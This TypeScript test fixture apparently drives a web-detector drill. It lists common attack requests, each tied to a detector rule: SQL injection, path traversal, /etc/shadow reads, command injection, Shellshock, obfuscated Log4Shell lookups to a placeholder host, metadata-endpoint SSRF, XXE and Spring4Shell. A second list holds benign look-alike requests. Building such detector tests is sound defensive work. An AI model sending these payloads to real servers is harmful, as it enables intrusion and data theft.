/** A request that is told of, or that is not, as curl sends it. */
export interface Sent {
  /** From the first slash on, as it stands in the request. */
  readonly path: string
  readonly args?: readonly string[]
}

/** One that attackers send everywhere. */
export interface KnownAttack extends Sent {
  readonly what: string
  /** Number of the rule of the detector that is there for it. */
  readonly rule: number
}

const header = (line: string) => ['-H', line]
const body = (type: string, text: string) => [...header(`Content-Type: ${type}`), '--data-binary', text]
const FORM = 'application/x-www-form-urlencoded'
/** What old programs look up by themselves when they meet it; the name is nobody's. */
const lookUp = (kind: string) => ['$', `{${kind}://drill.invalid/a}`].join('')
const HIDDEN = ['$', '{', '$', '{lower:j}ndi:ldap://drill.invalid/a}'].join('')

/** One of each kind that comes as a request, written as it is found in logs of servers on the internet. */
export const KNOWN_ATTACKS: readonly KnownAttack[] = [
  {
    what: 'SQL injection that reads another table',
    rule: 7_000_001,
    path: "/products?id=7'%20UNION%20ALL%20SELECT%20NULL,name,NULL%20FROM%20staff--%20-",
  },
  {
    what: 'SQL injection that is always true',
    rule: 7_000_002,
    path: "/login?user=admin'%20OR%20'1'='1'--%20&password=x",
  },
  {
    what: 'SQL injection that waits',
    rule: 7_000_003,
    path: '/products?id=7;SELECT%20PG_SLEEP(5)--',
  },
  {
    what: 'path out of the folder',
    rule: 7_000_010,
    path: '/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/app/server.js',
  },
  { what: 'file of the system', rule: 7_000_011, path: '/view?page=/etc/shadow' },
  { what: 'command of the shell', rule: 7_000_020, path: '/ping?host=192.0.2.1%7Cwhoami' },
  {
    what: 'Shellshock',
    rule: 7_000_021,
    path: '/cgi-bin/status',
    args: header('User-Agent: () { :;}; /usr/bin/id'),
  },
  {
    what: 'Log4Shell in the address',
    rule: 7_000_030,
    path: `/?q=${encodeURIComponent(lookUp('jndi:ldap'))}`,
  },
  {
    what: 'Log4Shell in a header',
    rule: 7_000_031,
    path: '/',
    args: header(`X-Api-Version: ${lookUp('jndi:dns')}`),
  },
  {
    what: 'Log4Shell in a form, hidden',
    rule: 7_000_032,
    path: '/login',
    args: body(FORM, `user=${HIDDEN}&password=x`),
  },
  { what: 'web shell', rule: 7_000_040, path: '/uploads/shell.php?cmd=id' },
  { what: 'forgotten file', rule: 7_000_050, path: '/.git/config' },
  {
    what: 'program that searches for holes',
    rule: 7_000_051,
    path: '/admin/',
    args: header('User-Agent: Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)'),
  },
  {
    what: 'script in the address',
    rule: 7_000_060,
    path: '/search?q=%3Cscript%3Ealert(document.domain)%3C/script%3E',
  },
  {
    what: 'address of the inside',
    rule: 7_000_061,
    path: '/preview?url=http://169.254.169.254/latest/meta-data/iam/',
  },
  {
    what: 'XML that reads a file',
    rule: 7_000_062,
    path: '/import',
    args: body(
      'application/xml',
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY f SYSTEM "file:///etc/hostname">]><r>&f;</r>',
    ),
  },
  {
    what: 'Spring4Shell in the address',
    rule: 7_000_063,
    path: '/?class.module.classLoader.URLs%5B0%5D=0',
  },
  { what: 'sum for a template', rule: 7_000_064, path: '/hello?name=%7B%7B7*7%7D%7D' },
  {
    what: 'Spring4Shell in a form',
    rule: 7_000_065,
    path: '/',
    args: body(FORM, 'class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp'),
  },
]

/** The drill's app answers it with a list of users, as one does that was broken into. */
export const BREAK_IN: KnownAttack = {
  what: 'list of users as an answer',
  rule: 7_000_070,
  path: '/planted',
}

/** `file`: one that is sent up whole. What people do beside reading pages, and words that only look like an attack. */
export const ordinaryUse = (file: string): readonly Sent[] => [
  { path: '/search?q=student%20union%20select%20committee' },
  { path: '/search?q=drop%20table%20lamp' },
  { path: '/wiki/SQL_injection' },
  { path: '/docs/etc/passwd-format' },
  { path: '/image?url=https%3A%2F%2Fcdn.example.org%2Fa.png' },
  { path: '/a/../about' },
  {
    path: '/notes',
    args: body(FORM, 'text=SELECT+%2A+FROM+users+WHERE+1%3D1%3B+--+my+homework&title=Rock+%27n%27+Roll'),
  },
  {
    path: '/notes',
    args: body('application/json', '{"text":"<script>hello()</script> and ../../../x; cat /etc/passwd"}'),
  },
  { path: '/upload', args: ['-F', 'title=Holidays', '-F', `picture=@${file};type=image/jpeg`] },
]
